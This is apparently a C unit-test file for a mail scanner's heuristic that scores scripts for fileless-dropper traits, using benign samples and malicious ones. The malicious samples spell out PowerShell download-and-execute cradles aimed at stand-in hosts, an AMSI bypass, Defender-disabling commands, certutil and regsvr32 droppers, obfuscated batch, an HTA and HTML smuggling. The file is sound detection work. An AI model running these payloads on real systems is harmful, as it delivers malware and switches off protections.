/*
 * test_heur_script - unit tests for heur_script.c (with deobf.c underneath)
 *
 * Table-driven: each case is a script, the language token scan.c would pass, the symbols
 * that must be reported, the symbols that must not, and a score band. The score is the
 * sum of WEIGHTS below, which mirror the lines heur_script contributes to
 * rules/scoring.conf (HTML_SMUGGLING's is heur_file's): a case states "below tag" as no
 * symbol of weight >= 5 and a total < 5, "quarantine" as >= 10 and "reject" as >= 15.
 *
 * Negatives are what mail really carries: an admin PowerShell script that lists services
 * and names registry paths in its comments, a minified jQuery-style library (XMLHttpRequest,
 * the old ActiveXObject("Microsoft.XMLHTTP") fallback, RegExp.exec), and an HTML
 * newsletter with 200 tracked links and an inline image. Positives are the delivery
 * shapes of Kovter/Poweliks/Gootkit-style fileless droppers: a JScript downloader, the
 * powershell -enc cradle (whose decoded layer is checked for the cradle symbols with a
 * second heur_script call, as scan.c would make), an obfuscated batch file, an HTA, an
 * HTML smuggling page and a shortcut command line.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "lib/buf.h"
#include "heur/script.h"
#include "model/hit.h"
#include "lib/xalloc.h"
#include "testouts.h"
#include "testutil.h"

/* ------------------------------------------------------------------ weights */

static const struct {
    const char *sym;
    double w;
} WEIGHTS[] = {
    {"SCRIPT_COM_SHELL", 2},      {"SCRIPT_COM_HTTP", 1},
    {"SCRIPT_COM_STREAM", 1.5},   {"SCRIPT_COM_FSO", 0.5},
    {"SCRIPT_PROCESS_LAUNCH", 3}, {"PS_INVOKE_EXPRESSION", 3},
    {"SCRIPT_DOWNLOAD", 4},       {"SCRIPT_CERTUTIL_DECODE", 3},
    {"SCRIPT_DOWNLOAD_EXEC", 4},  {"SCRIPT_DOWNLOAD_EXEC_STEALTH", 3},
    {"SCRIPT_INMEMORY_LOAD", 5},  {"PS_AMSI_BYPASS", 8},
    {"PS_DEFENDER_TAMPER", 5},    {"SCRIPT_HIDDEN_WINDOW", 2},
    {"PS_EXEC_POLICY_BYPASS", 2}, {"PS_NOPROFILE_NONINTERACTIVE", 1},
    {"PS_ENCODED_COMMAND", 3},    {"SCRIPT_LOLBIN_PROXY", 5},
    {"SCRIPT_LNK_LAUNCHER", 4},   {"SCRIPT_ENCODED", 2},
    {"SCRIPT_OBFUSCATED", 1},     {"BAT_OBFUSCATED", 2},
    {"LIMIT_SCRIPT_DECODED", 1},  {"HTML_SMUGGLING", 8},
};

/* weight - a symbol's weight; an unknown symbol fails the test */
static double weight(const char *sym)
{
    for (size_t i = 0; i < sizeof(WEIGHTS) / sizeof(WEIGHTS[0]); i++)
        if (strcmp(WEIGHTS[i].sym, sym) == 0)
            return WEIGHTS[i].w;
    fail_msg("symbol %s has no weight", sym);
    return 0;
}

/* ------------------------------------------------------------------ helpers */

static HITS *analyse(const char *lang, const char *s, size_t n, OUTS *e)
{
    HITS *h = hits_new();
    HEUR_CTX c = {h, "1/x", NULL, e ? outs_emit : NULL, e, 0, 4u << 20, 40};
    heur_script(&c, lang, (const unsigned char *)s, n);
    return h;
}

/* score - sum of weights and the largest one */
static double score(const HITS *h, double *maxw)
{
    double sum = 0;
    *maxw = 0;
    for (size_t i = 0; i < h->n; i++) {
        double w = weight(h->v[i].symbol);
        sum += w;
        if (w > *maxw)
            *maxw = w;
    }
    return sum;
}

/* hits_text - the symbols as one line, for failure messages */
static void hits_text(const HITS *h, BUF *b)
{
    for (size_t i = 0; i < h->n; i++)
        buf_printf(b, "%s%s(%s)", i ? " " : "", h->v[i].symbol, h->v[i].detail);
}

/* ------------------------------------------------------------------ cases */

enum band { BELOW_TAG, TAG, QUARANTINE, REJECT };

typedef struct CASE {
    const char *name, *lang;
    const char *text; /* NULL: built by the test */
    const char *want; /* symbols that must be reported, space-separated */
    const char *deny; /* symbols that must not */
    enum band band;   /* BELOW_TAG: no symbol >= 5 and total < 5; else total at least */
} CASE;

/* has_all - every space-separated symbol of list is (want) or is not (!want) in h */
static const char *has_all(const HITS *h, const char *list, bool want, char *buf, size_t bn)
{
    for (const char *p = list ? list : ""; *p;) {
        size_t k = strcspn(p, " ");
        snprintf(buf, bn, "%.*s", (int)k, p);
        if (hits_has(h, buf) != want)
            return buf;
        p += k + (p[k] == ' ');
    }
    return NULL;
}

/* check_case - one case over text; 1 when it failed (printed) */
static int check_case(const CASE *c, const char *text)
{
    HITS *h = analyse(c->lang, text, strlen(text), NULL);
    double maxw, sum = score(h, &maxw);
    char sym[64];
    const char *missing = has_all(h, c->want, true, sym, sizeof(sym));
    const char *extra = missing ? NULL : has_all(h, c->deny, false, sym, sizeof(sym));
    static const double floor_of[] = {0, 5, 10, 15};
    bool band_ok = c->band == BELOW_TAG ? (maxw < 5 && sum < 5) : sum >= floor_of[c->band];
    int bad = missing || extra || !band_ok;
    if (bad || getenv("TEST_VERBOSE")) {
        BUF *b = buf_new(256);
        hits_text(h, b);
        print_error("%s %s: %s%s%s score %.1f (max %.1f)\n  hits: %s\n", bad ? "FAIL" : "ok",
                    c->name,
                    missing ? "missing "
                    : extra ? "unexpected "
                            : "",
                    missing ? missing
                    : extra ? extra
                            : "",
                    band_ok ? "" : " wrong band,", sum, maxw, b->data);
        buf_free(b);
    }
    hits_free(h);
    return bad;
}

static const char SYSADMIN_PS[] =
    "<#\n"
    ".SYNOPSIS\n"
    "  Lists running services and the registry paths they are configured under.\n"
    ".NOTES\n"
    "  Service configuration: HKLM:\\SYSTEM\\CurrentControlSet\\Services\\<name>\n"
    "  Autostart entries we audit: HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n"
    "  and HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce (read only).\n"
    "#>\n"
    "param([string]$ComputerName = $env:COMPUTERNAME)\n"
    "Set-StrictMode -Version Latest\n"
    "$services = Get-Service -ComputerName $ComputerName | Where-Object { $_.Status -eq "
    "'Running' }\n"
    "foreach ($s in $services) {\n"
    "    $key = \"HKLM:\\SYSTEM\\CurrentControlSet\\Services\\$($s.Name)\"\n"
    "    $img = (Get-ItemProperty -Path $key -Name ImagePath -ErrorAction "
    "SilentlyContinue).ImagePath\n"
    "    [pscustomobject]@{ Name = $s.Name; Display = $s.DisplayName; Image = $img }\n"
    "}\n"
    "Get-ChildItem -Path 'C:\\ProgramData\\Logs' -Filter *.log -Recurse |\n"
    "    Sort-Object LastWriteTime | Select-Object -Last 5 | Format-Table -AutoSize\n"
    "$services | Export-Csv -Path \"$env:TEMP\\services-\" + (Get-Date -Format 'yyyyMMdd') + "
    "'.csv' -NoTypeInformation\n"
    "Write-Host \"Done: $($services.Count) services listed.\"\n";

static const char JQUERY_LIKE[] =
    "/*! jQuery-like v3.6.0 | (c) example | MIT */\n"
    "!function(e,t){\"object\"==typeof module&&\"object\"==typeof "
    "module.exports?module.exports=e.document?t(e,!0):function(e){if(!e.document)throw new "
    "Error(\"jQuery requires a window with a document\");return t(e)}:t(e)}(\"undefined\"!="
    "typeof window?window:this,function(C,e){\"use strict\";var "
    "t=[],r=Object.getPrototypeOf,s=t.slice,u=t.push,i=t.indexOf,n={},o=n.toString,E=C.document,"
    "f=\"3.6.0\",S=function(e,t){return new S.fn.init(e,t)},q=/^(?:\\s*(<[\\w\\W]+>)[^>]*|#([\\w-]"
    "+))$/,ws=\"[\\\\x20\\\\t\\\\r\\\\n\\\\f]\",rt=new RegExp(\"^\"+ws+\"+|((?:^|[^\\\\\\\\])(?:"
    "\\\\\\\\.)*)\"+ws+\"+$\",\"g\");S.fn.init=function(e,t){var n=q.exec(e);if(n&&n[1])return "
    "S.merge(this,S.parseHTML(n[1],t&&t.nodeType?t.ownerDocument||t:E,!0));return this};"
    "S.ajaxSettings={url:location.href,type:\"GET\",async:!0,contentType:\"application/"
    "x-www-form-urlencoded; charset=UTF-8\",xhr:function(){try{return new "
    "C.XMLHttpRequest}catch(e){}}};C.ActiveXObject!==undefined&&(S.ajaxSettings.xhr=function(){"
    "try{return new C.ActiveXObject(\"Microsoft.XMLHTTP\")}catch(e){}});S.ajax=function(o){var "
    "h=S.ajaxSettings.xhr();h.open(o.type||\"GET\",o.url,o.async!==!1,o.username,o.password);"
    "h.onreadystatechange=function(){4===h.readyState&&o.success&&o.success(h.responseText,"
    "h.status)};h.setRequestHeader(\"X-Requested-With\",\"XMLHttpRequest\");h.send(o.data||null);"
    "return h};S.fn.extend({run:function(e){return this.each(function(){e.call(this)})},"
    "download:function(u){return S.ajax({url:u})}});C.jQuery=C.$=S;return S});\n";

/* newsletter - an HTML newsletter with 200 tracked links, an image, and no script */
static char *newsletter(void)
{
    BUF *b = buf_new(65536);
    unsigned char png[90] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};
    for (size_t i = 8; i < sizeof(png); i++)
        png[i] = (unsigned char)(i * 13);
    char *img = b64(png, sizeof(png));
    buf_printf(b,
               "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Weekly news</title>"
               "</head><body><img src=\"data:image/png;base64,%s\" alt=\"logo\">\n",
               img);
    for (int i = 0; i < 200; i++) {
        char tok[64];
        snprintf(tok, sizeof(tok), "user-%04d-campaign-2024-weekly-newsletter-click", i);
        char *t = b64(tok, strlen(tok));
        buf_printf(b,
                   "<p><a href=\"https://click.news.example.com/ls/click?upn=%s&amp;id=%d\">"
                   "Article %d: what changed this week</a></p>\n",
                   t, i, i);
        free(t);
    }
    buf_puts(b,
             "<p>You receive this because you subscribed. <a "
             "href=\"https://news.example.com/unsubscribe\">Unsubscribe</a></p></body></html>\n");
    free(img);
    char *s = buf_steal(b, NULL);
    buf_free(b);
    return s;
}

static const CASE negatives[] = {
    {"sysadmin PowerShell", "ps1", SYSADMIN_PS, "", "SCRIPT_DOWNLOAD SCRIPT_PROCESS_LAUNCH",
     BELOW_TAG},
    {"minified jQuery-like library", "js", JQUERY_LIKE, "",
     "SCRIPT_PROCESS_LAUNCH SCRIPT_DOWNLOAD HTML_SMUGGLING", BELOW_TAG},
    {"jQuery-like inside an HTML page", "html", JQUERY_LIKE, "", "SCRIPT_PROCESS_LAUNCH",
     BELOW_TAG},
    {"newsletter", "html", NULL, "", "", BELOW_TAG},
    {"one COM object", "js",
     "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\n"
     "var f = fso.OpenTextFile(\"C:\\\\report.txt\", 1);\n",
     "SCRIPT_COM_FSO", "", BELOW_TAG},
    {"one shell object", "vbs",
     "Set sh = CreateObject(\"WScript.Shell\")\nMsgBox sh.CurrentDirectory\n", "SCRIPT_COM_SHELL",
     "SCRIPT_PROCESS_LAUNCH", BELOW_TAG},
    {"regex exec is no launch", "js", "var m = /a(b)/.exec(s); var t = re.exec (u);", "",
     "SCRIPT_PROCESS_LAUNCH", BELOW_TAG},
    {"curl in a batch comment is no PowerShell alias", "bat", "rem get curl from the vendor\r\n",
     "", "SCRIPT_DOWNLOAD", BELOW_TAG},
    {"index is not iex", "ps1", "$index = $list.IndexOf('x'); $complex = 1", "",
     "PS_INVOKE_EXPRESSION", BELOW_TAG},
};

/* test_negatives - what mail carries every day stays below the tag threshold */
static void test_negatives(void **state)
{
    (void)state;
    int failed = 0;
    char *news = newsletter();
    for (size_t i = 0; i < sizeof(negatives) / sizeof(negatives[0]); i++)
        failed += check_case(&negatives[i], negatives[i].text ? negatives[i].text : news);
    HITS *h = analyse("html", news, strlen(news), NULL);
    if (h->n != 0)
        failed++, print_error("FAIL newsletter: %zu hits\n", h->n);
    hits_free(h);
    free(news);
    assert_int_equal(failed, 0);
}

static const char JS_DROPPER[] =
    "var sh = new ActiveXObject(\"WScript.Shell\");\n"
    "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\n"
    "x.open(\"GET\", \"http://evil.example/p.bin\", false);\n"
    "x.send();\n"
    "var s = new ActiveXObject(\"ADODB.Stream\");\n"
    "s.Type = 1; s.Open(); s.Write(x.responseBody);\n"
    "var p = sh.ExpandEnvironmentStrings(\"%TEMP%\") + \"\\\\p.exe\";\n"
    "s.SaveToFile(p, 2); s.Close();\n"
    "sh.Run(p, 0);\n";

static const char HTA[] =
    "<html><head><HTA:APPLICATION ID=\"u\" WINDOWSTATE=\"minimize\" SHOWINTASKBAR=\"no\">\n"
    "</head><script language=\"VBScript\">\n"
    "Set sh = CreateObject(\"WScript.Shell\")\n"
    "sh.Run \"powershell -nop -w hidden -c \"\"IEX (New-Object "
    "Net.WebClient).DownloadString('http://x.example/c')\"\"\", 0, False\n"
    "self.close\n"
    "</script></html>\n";

static const char LNK_LINE[] =
    "C:\\Windows\\System32\\cmd.exe /c start /min mshta "
    "javascript:a=new ActiveXObject(\"WScript.Shell\");a.Run(\"calc\",0);close()";

static const CASE positives[] = {
    {"JScript dropper", "js", JS_DROPPER,
     "SCRIPT_COM_SHELL SCRIPT_COM_HTTP SCRIPT_COM_STREAM SCRIPT_DOWNLOAD SCRIPT_PROCESS_LAUNCH "
     "SCRIPT_DOWNLOAD_EXEC SCRIPT_HIDDEN_WINDOW SCRIPT_DOWNLOAD_EXEC_STEALTH",
     "", REJECT},
    {"PowerShell cradle in clear", "bat",
     "powershell -nop -ep bypass -w hidden -c \"IEX (New-Object "
     "Net.WebClient).DownloadString('http://x/a')\"",
     "PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD SCRIPT_DOWNLOAD_EXEC PS_EXEC_POLICY_BYPASS "
     "SCRIPT_HIDDEN_WINDOW PS_NOPROFILE_NONINTERACTIVE SCRIPT_DOWNLOAD_EXEC_STEALTH",
     "", REJECT},
    {"download and execute", "ps1",
     "$c = New-Object System.Net.WebClient; $c.DownloadFile('http://x/a.exe', "
     "\"$env:TEMP\\a.exe\");"
     " Start-Process \"$env:TEMP\\a.exe\"",
     "SCRIPT_DOWNLOAD SCRIPT_PROCESS_LAUNCH SCRIPT_DOWNLOAD_EXEC", "SCRIPT_DOWNLOAD_EXEC_STEALTH",
     QUARANTINE},
    {"iwr alias in PowerShell", "ps1", "iwr http://x/a.ps1 -UseBasicParsing | iex",
     "SCRIPT_DOWNLOAD PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD_EXEC", "", QUARANTINE},
    {"in-memory loader", "ps1",
     "$b = (New-Object Net.WebClient).DownloadData('http://x/a.dll'); "
     "[System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null); iex $x",
     "SCRIPT_INMEMORY_LOAD SCRIPT_DOWNLOAD_EXEC SCRIPT_DOWNLOAD_EXEC_STEALTH", "", REJECT},
    {"shellcode runner", "ps1",
     "Add-Type -TypeDefinition '[DllImport(\"kernel32.dll\")] public static extern IntPtr "
     "VirtualAlloc(IntPtr a, uint b, uint c, uint d);'",
     "SCRIPT_INMEMORY_LOAD", "", TAG},
    {"AMSI bypass", "ps1",
     "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
     "'NonPublic,Static').SetValue($null,$true)",
     "PS_AMSI_BYPASS", "", TAG},
    {"Defender tampering", "ps1",
     "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\",
     "PS_DEFENDER_TAMPER", "", TAG},
    {"HTA with VBScript", "hta", HTA,
     "SCRIPT_COM_SHELL SCRIPT_PROCESS_LAUNCH PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD "
     "SCRIPT_DOWNLOAD_EXEC SCRIPT_HIDDEN_WINDOW",
     "", REJECT},
    {"shortcut command line", "lnk", LNK_LINE,
     "SCRIPT_LNK_LAUNCHER SCRIPT_LOLBIN_PROXY SCRIPT_PROCESS_LAUNCH SCRIPT_COM_SHELL "
     "SCRIPT_HIDDEN_WINDOW",
     "", REJECT},
    {"certutil dropper", "bat",
     "certutil -urlcache -split -f http://x/a.b64 a.b64 & certutil -decode a.b64 a.exe & "
     "cmd /c a.exe",
     "SCRIPT_DOWNLOAD SCRIPT_CERTUTIL_DECODE SCRIPT_DOWNLOAD_EXEC", "", QUARANTINE},
    {"regsvr32 scriptlet", "bat", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
     "SCRIPT_LOLBIN_PROXY", "", TAG},
    {"carets hide the launcher", "bat",
     "c^m^d /c p^o^w^e^r^s^h^e^l^l -w h^idden -c \"IEX(New-Object "
     "Net.WebClient).DownloadString('http://x/b')\"",
     "SCRIPT_PROCESS_LAUNCH SCRIPT_HIDDEN_WINDOW BAT_OBFUSCATED SCRIPT_DOWNLOAD_EXEC_STEALTH", "",
     REJECT},
    {"backticks in PowerShell", "ps1", "I`E`X (N`ew-Obj`ect Net.WebClient).Downl`oadString('h')",
     "PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD SCRIPT_DOWNLOAD_EXEC", "", QUARANTINE},
};

/* test_positives - droppers grade to quarantine or reject */
static void test_positives(void **state)
{
    (void)state;
    int failed = 0;
    for (size_t i = 0; i < sizeof(positives) / sizeof(positives[0]); i++)
        failed += check_case(&positives[i], positives[i].text);
    assert_int_equal(failed, 0);
}

/* layer_case - run heur_script over a layer as scan.c would; 1 when it failed */
static int layer_case(const char *name, const OUT *l, const char *want, enum band band)
{
    if (l == NULL) {
        print_error("FAIL %s: no layer\n", name);
        return 1;
    }
    const CASE c = {name, l->lang, l->data, want, "", band};
    return check_case(&c, l->data);
}

/* test_encoded_cradle - powershell -nop -w hidden -enc <UTF-16LE base64 of a cradle> */
static void test_encoded_cradle(void **state)
{
    (void)state;
    const char *cradle = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
    char *enc = b64_utf16(cradle);
    BUF *b = buf_new(512);
    buf_printf(b, "powershell -nop -w hidden -enc %s", enc);
    OUTS e = {.n = 0};
    HITS *h = analyse("bat", b->data, b->len, &e);
    assert_true(hits_has(h, "PS_ENCODED_COMMAND"));
    assert_true(hits_has(h, "SCRIPT_HIDDEN_WINDOW"));
    assert_true(hits_has(h, "PS_NOPROFILE_NONINTERACTIVE"));
    assert_false(hits_has(h, "SCRIPT_DOWNLOAD")); /* not visible before decoding */
    const OUT *l = outs_find(&e, "encodedcommand");
    assert_non_null(l);
    assert_string_equal(l->lang, "ps1");
    assert_string_equal(l->data, cradle);
    assert_int_equal(layer_case("decoded cradle", l,
                                "PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD SCRIPT_DOWNLOAD_EXEC",
                                QUARANTINE),
                     0);
    /* the same command line from a shortcut */
    hits_free(h);
    outs_free(&e);
    h = analyse("lnk", b->data, b->len, &e);
    assert_true(hits_has(h, "SCRIPT_LNK_LAUNCHER"));
    assert_non_null(outs_find(&e, "encodedcommand"));
    hits_free(h);
    outs_free(&e);
    buf_free(b);
    free(enc);
}

/* test_batch_layers - carets and set substrings: the cmdset layer shows the launch */
static void test_batch_layers(void **state)
{
    (void)state;
    const char *bat = "@echo off\r\n"
                      "set x=abcdefghijklmnopqrstuvwxyz\r\n"
                      "set y=%x:~15,1%%x:~14,1%%x:~22,1%%x:~4,1%%x:~17,1%\r\n"
                      "c^m^d /c %y%s^hell -w hidden -c \"IEX(New-Object "
                      "Net.WebClient).DownloadString('http://x/b')\"\r\n";
    OUTS e = {.n = 0};
    HITS *h = analyse("bat", bat, strlen(bat), &e);
    assert_true(hits_has(h, "BAT_OBFUSCATED"));
    assert_true(hits_has(h, "SCRIPT_PROCESS_LAUNCH")); /* c^m^d /c, caret-stripped view */
    const OUT *l = outs_find(&e, "cmdset");
    assert_non_null(l);
    assert_string_equal(l->lang, "bat");
    assert_non_null(strstr(l->data, "cmd /c powershell -w hidden -c \"IEX("));
    assert_int_equal(layer_case("cmdset layer", l,
                                "SCRIPT_PROCESS_LAUNCH PS_INVOKE_EXPRESSION SCRIPT_DOWNLOAD "
                                "SCRIPT_HIDDEN_WINDOW SCRIPT_DOWNLOAD_EXEC_STEALTH",
                                REJECT),
                     0);
    hits_free(h);
    outs_free(&e);
}

/* test_smuggling - a page that builds a zip in the browser; its payload goes to scan.c */
static void test_smuggling(void **state)
{
    (void)state;
    unsigned char zip[400] = {'P', 'K', 3, 4, 20, 0};
    for (size_t i = 6; i < sizeof(zip); i++)
        zip[i] = (unsigned char)(i * 31 + 7);
    char *payload = b64(zip, sizeof(zip));
    BUF *b = buf_new(4096);
    buf_printf(b,
               "<html><body><p>Your document is downloading...</p><script>\n"
               "var d = \"%s\";\n"
               "var bin = window.atob(d), arr = new Uint8Array(bin.length);\n"
               "for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i);\n"
               "var blob = new Blob([arr], {type: \"application/octet-stream\"});\n"
               "var a = document.createElement(\"a\");\n"
               "a.href = window.URL.createObjectURL(blob);\n"
               "a.download = \"invoice.zip\"; document.body.appendChild(a); a.click();\n"
               "</script></body></html>\n",
               payload);
    OUTS e = {.n = 0};
    HITS *h = analyse("html", b->data, b->len, &e);
    assert_true(hits_has(h, "HTML_SMUGGLING"));
    const OUT *l = outs_find(&e, "base64");
    assert_non_null(l);
    assert_string_equal(l->lang, "(null)");
    assert_memory_equal(l->data, "PK\x03\x04", 4);
    hits_free(h);
    outs_free(&e);
    /* a data: URL with a download attribute; the same as a .js file is not markup */
    const char *a = "<a href=\"data:application/octet-stream;base64,UEsDBBQAAAAIAAAAIQA=\" "
                    "download=\"invoice.zip\">Open invoice</a>";
    h = analyse("html", a, strlen(a), NULL);
    assert_true(hits_has(h, "HTML_SMUGGLING"));
    hits_free(h);
    h = analyse("js", b->data, b->len, NULL);
    assert_false(hits_has(h, "HTML_SMUGGLING"));
    hits_free(h);
    buf_free(b);
    free(payload);
}

/* test_layers_and_obfuscation - concat, char codes and Script Encoder layers */
static void test_layers_and_obfuscation(void **state)
{
    (void)state;
    const char *js = "var o = new ActiveXObject(\"WScr\" + \"ipt.Sh\" + \"ell\");\n"
                     "o.Run(String.fromCharCode(99,109,100,32,47,99,32,99,97,108,99), 0);\n";
    OUTS e = {.n = 0};
    HITS *h = analyse("js", js, strlen(js), &e);
    assert_true(hits_has(h, "SCRIPT_OBFUSCATED"));
    assert_false(hits_has(h, "SCRIPT_COM_SHELL")); /* hidden by the concatenation */
    const OUT *l = outs_find(&e, "charcodes");
    assert_non_null(l);
    assert_non_null(strstr(l->data, "new ActiveXObject(\"WScript.Shell\")"));
    assert_non_null(strstr(l->data, "o.Run(\"cmd /c calc\", 0)"));
    assert_int_equal(layer_case("charcodes layer", l,
                                "SCRIPT_COM_SHELL SCRIPT_PROCESS_LAUNCH SCRIPT_HIDDEN_WINDOW", TAG),
                     0);
    hits_free(h);
    outs_free(&e);
    const char *jse = "#@~^LAAAAA==W!x^DkKxP6WKc#Pls+MYcvD+/D@$@!D+/D@*@#@&E#p8Vg0AAA==^#~@";
    h = analyse("jse", jse, strlen(jse), &e);
    assert_true(hits_has(h, "SCRIPT_ENCODED"));
    assert_non_null(outs_find(&e, "jse"));
    assert_string_equal(outs_find(&e, "jse")->lang, "js");
    hits_free(h);
    outs_free(&e);
}

/* test_robustness - no emit callback, empty input, unknown language, no hit list */
static void test_robustness(void **state)
{
    (void)state;
    HITS *h = analyse(NULL, JS_DROPPER, strlen(JS_DROPPER), NULL);
    assert_true(hits_has(h, "SCRIPT_DOWNLOAD_EXEC")); /* the keyword scan needs no language */
    hits_free(h);
    h = analyse("js", "", 0, NULL);
    assert_int_equal(h->n, 0);
    hits_free(h);
    HEUR_CTX c = {NULL, "1", NULL, NULL, NULL, 0, 0, 0};
    heur_script(&c, "js", (const unsigned char *)JS_DROPPER, strlen(JS_DROPPER));
    heur_script(NULL, "js", (const unsigned char *)"x", 1);
    /* a hostile megabyte: many keywords, each validated at most a bounded number of times */
    BUF *b = buf_new(1 << 20);
    while (b->len < (1 << 20))
        buf_puts(b, ".run( download atob(' data:application/ cmd /c iex -w ");
    OUTS e = {.n = 0};
    h = analyse("html", b->data, b->len, &e);
    assert_true(e.n <= 32);
    hits_free(h);
    outs_free(&e);
    buf_free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_negatives),      cmocka_unit_test(test_positives),
        cmocka_unit_test(test_encoded_cradle), cmocka_unit_test(test_batch_layers),
        cmocka_unit_test(test_smuggling),      cmocka_unit_test(test_layers_and_obfuscation),
        cmocka_unit_test(test_robustness),
    };
    return cmocka_run_group_tests_name("heur_script", tests, NULL, NULL);
}
